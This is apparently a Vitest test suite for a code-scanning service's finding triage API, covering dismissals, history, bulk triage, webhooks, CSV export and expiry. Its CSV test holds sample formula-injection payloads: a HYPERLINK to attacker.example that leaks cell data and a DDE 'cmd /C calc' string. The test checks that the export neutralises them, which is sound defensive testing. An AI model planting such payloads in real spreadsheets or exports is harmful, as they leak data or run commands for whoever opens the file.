import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { runMaintenance } from '../../src/maintenance.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { DB_KINDS } from '../support/db.js';
import { orgClient } from '../support/orgs.js';
import { sarifLog, type SarifResultSpec } from '../support/sarif.js';

interface Finding { id: string; rule_id: string; state: string; file_path: string | null; fingerprint: string }
interface Detail extends Finding { ref: string; location_url: string | null; dismissal: { reason: string; comment: string | null; by: string | null; until: string | null } | null }
interface Counts { new: number; fixed: number; reopened: number; unchanged: number }
interface Status { findings: { open: number; high: number; medium: number; dismissed: number } }
interface HistoryEvent { event: string; by: string | null; upload_id: string | null; reason: string | null; comment: string | null }

const COMMIT = '3f786850e387550fdab836ed7e6dc881de23001b';
const A: SarifResultSpec[] = [
  { rule: 'sql-injection', file: 'src/db.js', line: 10, level: 'error' },
  { rule: 'xss', file: 'src/view.js', line: 4, level: 'warning' },
];

describe.each(DB_KINDS)('triage on %s', (kind) => {
  let t: TestApp;
  let owner: string;
  let member: string;
  let repoId: string;
  let writeKey: string;
  let readKey: string;
  let orgId: string;
  beforeAll(async () => {
    t = await createTestApp(kind);
    ({ cookie: owner } = await t.user('owner'));
    const api = orgClient(t);
    const org = await api.createOrg(owner, 'triage');
    orgId = org.id;
    const memberUser = await t.user('member');
    member = memberUser.cookie;
    await api.setMember(owner, org.id, memberUser.user.id, 'member');
    repoId = (await api.createRepo(owner, org.id, { name: 'app', url: 'https://github.com/acme/app' })).id;
    writeKey = await t.apiKey(member, { scopes: ['write'] });
    readKey = await t.apiKey(member, { scopes: ['read'] });
  });
  afterAll(() => t.close());
  afterEach(() => vi.useRealTimers());

  const gates: string[] = [];
  const changes: { new: Record<string, number>; reopened: Record<string, number>; fixed: Record<string, number> }[] = [];
  const upload = async (results: SarifResultSpec[], category = 'sast'): Promise<Counts> => {
    const res = await t.request({
      method: 'POST', url: `/api/v1/repos/${repoId}/upload?category=${category}&commit_sha=${COMMIT}`,
      headers: { cookie: owner, 'content-type': 'application/sarif+json' }, payload: sarifLog(results),
    });
    expect(res.statusCode, res.body).toBe(202);
    await t.drain();
    const done = await t.request({ url: res.headers.location as string, headers: { cookie: owner } });
    const body = done.json<{ counts: Counts; gate: { status: string }; changes: (typeof changes)[number] }>();
    gates.push(body.gate.status);
    changes.push(body.changes);
    return body.counts;
  };
  const findings = async (state: string) => {
    const res = await t.request({ url: `/api/v1/repos/${repoId}/findings?state=${state}&per_page=100`, headers: { cookie: owner } });
    expect(res.statusCode, res.body).toBe(200);
    return res.json<Finding[]>();
  };
  const status = async () => (await t.request({ url: `/api/v1/repos/${repoId}/status`, headers: { cookie: owner } })).json<Status>();
  const finding = async (id: string) => (await t.request({ url: `/api/v1/findings/${id}`, headers: { cookie: member } })).json<Detail>();
  const history = async (id: string) => (await t.request({ url: `/api/v1/findings/${id}/history`, headers: { cookie: member } })).json<HistoryEvent[]>();
  const patch = (id: string, payload: unknown, headers: Record<string, string> = { cookie: member }) =>
    t.request({ method: 'PATCH', url: `/api/v1/findings/${id}`, headers, payload: payload as Record<string, unknown> });

  it('keeps a dismissal through re-imports, disappearance and return, never counting it open, new or reopened', async () => {
    const policy = await t.request({ method: 'PUT', url: `/api/v1/repos/${repoId}/policy`, headers: { cookie: owner }, payload: { max_open: { high: 0 }, fail_on_new: 'high' } });
    expect(policy.statusCode, policy.body).toBe(200);
    expect(await upload(A)).toMatchObject({ new: 2 });
    const sqli = (await findings('open')).find((f) => f.rule_id === 'sql-injection')!;
    const res = await patch(sqli.id, { state: 'dismissed', reason: 'false_positive', comment: 'Parameterised by the ORM' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json<Detail>()).toMatchObject({ state: 'dismissed', dismissal: { reason: 'false_positive', comment: 'Parameterised by the ORM', by: 'member', until: null } });
    expect((await status()).findings).toMatchObject({ open: 1, high: 0, dismissed: 1 });

    expect(await upload(A)).toMatchObject({ new: 0, fixed: 0, reopened: 0, unchanged: 2 });
    expect((await finding(sqli.id)).state).toBe('dismissed');
    expect((await status()).findings).toMatchObject({ open: 1, dismissed: 1 });

    expect(await upload([A[1]!])).toMatchObject({ new: 0, fixed: 0, reopened: 0, unchanged: 1 });
    // The changes by severity CI prints agree: a dismissed finding that went away was fixed for nobody.
    const none = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
    expect(changes.at(-1)).toEqual({ new: none, reopened: none, fixed: none });
    expect((await finding(sqli.id)).dismissal?.reason).toBe('false_positive');
    expect((await status()).findings).toMatchObject({ open: 1, dismissed: 0 });

    expect(await upload(A)).toMatchObject({ new: 0, fixed: 0, reopened: 0, unchanged: 2 });
    expect(changes.at(-1)).toEqual({ new: none, reopened: none, fixed: none });
    expect((await finding(sqli.id)).state).toBe('dismissed');
    expect((await status()).findings).toMatchObject({ open: 1, high: 0, dismissed: 1 });
    expect((await findings('open')).map((f) => f.rule_id)).toEqual(['xss']);
    expect((await findings('dismissed')).map((f) => f.rule_id)).toEqual(['sql-injection']);
    // The gate judges open findings only: the dismissed high finding neither exceeds max_open nor is new.
    expect(gates).toEqual(['fail', 'pass', 'pass', 'pass']);
    await t.request({ method: 'PUT', url: `/api/v1/repos/${repoId}/policy`, headers: { cookie: owner }, payload: { inherit: true } });
  });

  it('shows one finding with its forge link at the upload commit, and its history', async () => {
    const sqli = (await findings('dismissed')).find((f) => f.rule_id === 'sql-injection')!;
    const detail = await finding(sqli.id);
    expect(detail.location_url).toBe(`https://github.com/acme/app/blob/${COMMIT}/src/db.js#L10`);
    expect(detail.ref).toBe('main');
    const events = await history(sqli.id);
    expect(events.map((e) => e.event)).toEqual(['opened', 'dismissed']);
    expect(events[0]).toMatchObject({ event: 'opened', by: null });
    expect(events[0]!.upload_id).not.toBeNull();
    expect(events[1]).toMatchObject({ by: 'member', reason: 'false_positive', comment: 'Parameterised by the ORM', upload_id: null });
  });

  it('reopens by hand, records it in the history and the audit log, and refuses triaging a fixed finding', async () => {
    const sqli = (await findings('dismissed'))[0]!;
    const res = await patch(sqli.id, { state: 'open', comment: 'Not the ORM after all' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json<Detail>()).toMatchObject({ state: 'open', dismissal: null });
    expect((await status()).findings).toMatchObject({ open: 2, high: 1, dismissed: 0 });
    expect((await history(sqli.id)).at(-1)).toMatchObject({ event: 'reopened_by_hand', by: 'member', comment: 'Not the ORM after all' });
    const audit = (await t.request({ url: `/api/v1/orgs/${orgId}/audit`, headers: { cookie: owner } })).json<{ action: string }[]>();
    expect(audit.map((e) => e.action).filter((a) => a.startsWith('finding.'))).toEqual(['finding.reopened', 'finding.dismissed']);

    await upload([A[1]!]);
    const fixed = await patch(sqli.id, { state: 'dismissed', reason: 'wont_fix' });
    expect(fixed.statusCode).toBe(409);
    expect(fixed.headers['content-type']).toContain('application/problem+json');
    await upload(A);
  });

  it('needs write on a key, answers 400 to a bad body, 404 to an unknown finding', async () => {
    const xss = (await findings('open')).find((f) => f.rule_id === 'xss')!;
    expect((await patch(xss.id, { state: 'dismissed', reason: 'wont_fix' }, { authorization: `Bearer ${readKey}` })).statusCode).toBe(403);
    expect((await patch(xss.id, { state: 'dismissed', reason: 'because' })).statusCode).toBe(400);
    expect((await patch(xss.id, { state: 'dismissed' })).statusCode).toBe(400);
    expect((await patch(xss.id, { state: 'fixed' })).statusCode).toBe(400);
    expect((await patch('0190a3b2-0000-7000-8000-000000000000', { state: 'open' })).statusCode).toBe(404);
    const ok = await patch(xss.id, { state: 'dismissed', reason: 'used_in_tests' }, { authorization: `Bearer ${writeKey}` });
    expect(ok.statusCode, ok.body).toBe(200);
    await patch(xss.id, { state: 'open' });
  });

  it('triages many at once by the findings list filters or by ids, answering how many changed', async () => {
    const bulk = (payload: unknown, headers: Record<string, string> = { cookie: member }) =>
      t.request({ method: 'POST', url: `/api/v1/repos/${repoId}/findings/triage`, headers, payload: payload as Record<string, unknown> });
    await upload([
      { rule: 'hardcoded-password', file: 'test/fixtures/login.js', level: 'error' },
      { rule: 'weak-hash', file: 'test/helpers/hash.js', level: 'warning' },
      { rule: 'weak-hash', file: 'src/hash.js', level: 'warning' },
    ], 'bulk');
    const before = (await status()).findings.open;
    const byFilter = await bulk({ filter: { tool: 'TestScanner', q: 'test/' }, triage: { state: 'dismissed', reason: 'used_in_tests' } });
    expect(byFilter.statusCode, byFilter.body).toBe(200);
    expect(byFilter.json()).toEqual({ changed: 2 });
    expect((await status()).findings).toMatchObject({ open: before - 2, dismissed: 2 });
    expect((await findings('dismissed')).map((f) => f.file_path).sort()).toEqual(['test/fixtures/login.js', 'test/helpers/hash.js']);

    const src = (await findings('open')).find((f) => f.file_path === 'src/hash.js')!;
    const dismissed = (await findings('dismissed')).map((f) => f.id);
    expect((await bulk({ ids: [src.id, ...dismissed], triage: { state: 'open' } })).json()).toEqual({ changed: 2 });
    expect((await status()).findings).toMatchObject({ open: before, dismissed: 0 });

    expect((await bulk({ triage: { state: 'open' } })).statusCode).toBe(400);
    expect((await bulk({ ids: [src.id], filter: {}, triage: { state: 'open' } })).statusCode).toBe(400);
    expect((await bulk({ filter: { ref: 'refs/heads/' }, triage: { state: 'open' } })).statusCode).toBe(400);
    expect((await bulk({ ids: [src.id], triage: { state: 'dismissed', reason: 'wont_fix' } }, { authorization: `Bearer ${readKey}` })).statusCode).toBe(403);
    expect((await bulk({ filter: { ref: 'no-such-branch' }, triage: { state: 'dismissed', reason: 'wont_fix' } })).json()).toEqual({ changed: 0 });
  });

  it("shows the rule's help as markdown, every location and the snippet; what the tool suppressed arrives dismissed", async () => {
    const help = '# Path traversal\n\nNever join **user input** into a path. See [OWASP](https://owasp.org/www-community/attacks/Path_Traversal).';
    const place = (uri: string, startLine: number, snippet?: string) => ({
      physicalLocation: { artifactLocation: { uri }, region: { startLine, ...(snippet ? { snippet: { text: snippet } } : {}) } },
    });
    const log = {
      version: '2.1.0',
      runs: [{
        tool: { driver: { name: 'CodeQL', rules: [{ id: 'js/path-injection', shortDescription: { text: 'Uncontrolled data used in path expression' }, help: { text: 'Path traversal', markdown: help } }] } },
        results: [
          { ruleId: 'js/path-injection', level: 'error', message: { text: 'This path depends on a user-provided value.' },
            locations: [place('src/files.js', 12, 'fs.readFile(req.query.name)'), place('src/routes.js', 40)] },
          { ruleId: 'js/path-injection', level: 'error', message: { text: 'Reviewed: the name is checked against a list.' },
            locations: [place('src/admin.js', 3)], suppressions: [{ kind: 'inSource', justification: 'Checked against an allow list' }] },
          { ruleId: 'js/path-injection', level: 'error', message: { text: 'Suppression still under review.' },
            locations: [place('src/review.js', 5)], suppressions: [{ kind: 'external', status: 'underReview' }] },
        ],
      }],
    };
    const res = await t.request({
      method: 'POST', url: `/api/v1/repos/${repoId}/upload?category=codeql&commit_sha=${COMMIT}`,
      headers: { cookie: owner, 'content-type': 'application/sarif+json' }, payload: JSON.stringify(log),
    });
    expect(res.statusCode, res.body).toBe(202);
    await t.drain();
    const counts = (await t.request({ url: res.headers.location as string, headers: { cookie: owner } })).json<{ counts: Counts }>().counts;
    expect(counts).toMatchObject({ new: 2, unchanged: 1 });
    const all = (await t.request({ url: `/api/v1/repos/${repoId}/findings?tool=CodeQL&state=all`, headers: { cookie: owner } })).json<Finding[]>();
    const byFile = new Map(all.map((f) => [f.file_path, f]));
    expect([...byFile].map(([file, f]) => [file, f.state]).sort()).toEqual([['src/admin.js', 'dismissed'], ['src/files.js', 'open'], ['src/review.js', 'open']]);

    const detail = await (await t.request({ url: `/api/v1/findings/${byFile.get('src/files.js')!.id}`, headers: { cookie: member } }))
      .json<Detail & { help: string; snippet: string; locations: unknown[] }>();
    expect(detail.help).toBe(help);
    expect(detail.snippet).toBe('fs.readFile(req.query.name)');
    expect(detail.locations).toEqual([{ path: 'src/files.js', start_line: 12, end_line: 12 }, { path: 'src/routes.js', start_line: 40, end_line: 40 }]);
    const suppressed = await finding(byFile.get('src/admin.js')!.id);
    expect(suppressed.dismissal).toMatchObject({ reason: 'suppressed', comment: 'Checked against an allow list', by: null });
    expect((await history(suppressed.id)).map((e) => [e.event, e.reason])).toEqual([['opened', null], ['dismissed', 'suppressed']]);
  });

  it('tells webhooks that want it of each dismissal (finding.dismissed)', async () => {
    const hook = await t.request({
      method: 'POST', url: `/api/v1/orgs/${orgId}/webhooks`, headers: { cookie: owner },
      payload: { url: 'https://93.184.215.14/in', secret: 'triage-secret', events: ['finding.dismissed'] },
    });
    expect(hook.statusCode, hook.body).toBe(201);
    const xss = (await findings('open')).find((f) => f.rule_id === 'xss')!;
    await patch(xss.id, { state: 'dismissed', reason: 'wont_fix', comment: 'Legacy page' });
    await patch(xss.id, { state: 'open' });
    const sent = await t.db.kysely.selectFrom('webhook_deliveries').select(['event', 'payload'])
      .where('webhook_id', '=', hook.json<{ id: string }>().id).where('event', '=', 'finding.dismissed').execute();
    expect(sent).toHaveLength(1);
    expect(JSON.parse(sent[0]!.payload)).toMatchObject({ event: 'finding.dismissed', data: { count: 1, fingerprints: [xss.fingerprint], reason: 'wont_fix', comment: 'Legacy page' } });
    await t.request({ method: 'DELETE', url: `/api/v1/orgs/${orgId}/webhooks/${hook.json<{ id: string }>().id}`, headers: { cookie: owner } });
  });

  it('exports every matching finding as CSV (all pages, streamed) with Accept: text/csv', async () => {
    const many: SarifResultSpec[] = Array.from({ length: 1205 }, (_, i) => ({ rule: 'csv-rule', file: `src/gen/f${i}.js`, message: `Found "quoted", with comma ${i}` }));
    // What a scanned repository's code can put in a message, which a spreadsheet would run as a formula.
    many[0] = { rule: 'csv-rule', file: 'src/gen/formula.js', message: '=HYPERLINK("https://attacker.example/?"&A1,"open")' };
    many[1] = { rule: 'csv-rule', file: 'src/gen/plus.js', message: '+1+cmd|\' /C calc\'!A0' };
    many[2] = { rule: 'csv-rule', file: 'src/gen/at.js', message: '@SUM(1+1)' };
    await upload(many, 'csv');
    const res = await t.request({ url: `/api/v1/repos/${repoId}/findings?tool=TestScanner&q=src/gen/`, headers: { cookie: member, accept: 'text/csv' } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe('id,tool,category,rule_id,rule_name,severity,state,message,file_path,start_line,end_line,package,package_version,purl,fingerprint,first_seen_at,fixed_at,reopened_at,'
      + 'dismissal_reason,dismissal_comment,dismissal_by,dismissal_at,dismissal_until,due_at,sla,direct,path');
    expect(lines).toHaveLength(1206);
    expect(lines.find((l) => l.includes('src/gen/f7.js'))).toContain('"Found ""quoted"", with comma 7"');
    // A leading ' makes the cell text (OWASP's advice for CSV injection); the text itself is kept.
    expect(lines.find((l) => l.includes('src/gen/formula.js'))).toContain(`"'=HYPERLINK(""https://attacker.example/?""&A1,""open"")"`);
    expect(lines.find((l) => l.includes('src/gen/plus.js'))).toContain(`'+1+cmd|' /C calc'!A0`);
    expect(lines.find((l) => l.includes('src/gen/at.js'))).toContain(`'@SUM(1+1)`);
    const refused = await t.request({ url: '/api/v1/repos/0190a3b2-0000-7000-8000-000000000000/findings', headers: { cookie: member, accept: 'text/csv' } });
    expect(refused.statusCode).toBe(404);
    expect(refused.headers['content-type']).toContain('application/problem+json');
  });

  it('reopens a finding when its dismissal expires, by the maintenance loop, with a history entry', async () => {
    const xss = (await findings('open')).find((f) => f.rule_id === 'xss')!;
    const dismissedBefore = (await status()).findings.dismissed;
    // An hour from now: moving the clock further would also expire the test's sessions.
    const until = new Date(Date.now() + 3600_000).toISOString();
    const res = await patch(xss.id, { state: 'dismissed', reason: 'accepted_risk', until });
    expect(res.json<Detail>().dismissal?.until).toBe(until);
    await runMaintenance(t.app.services, t.app.log);
    expect((await finding(xss.id)).state).toBe('dismissed');

    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date(Date.parse(until) + 1000));
    await runMaintenance(t.app.services, t.app.log);
    vi.useRealTimers();
    expect(await finding(xss.id)).toMatchObject({ state: 'open', dismissal: null });
    expect((await history(xss.id)).at(-1)).toMatchObject({ event: 'dismissal_expired', by: null });
    expect((await status()).findings.dismissed).toBe(dismissedBefore);
  });
});
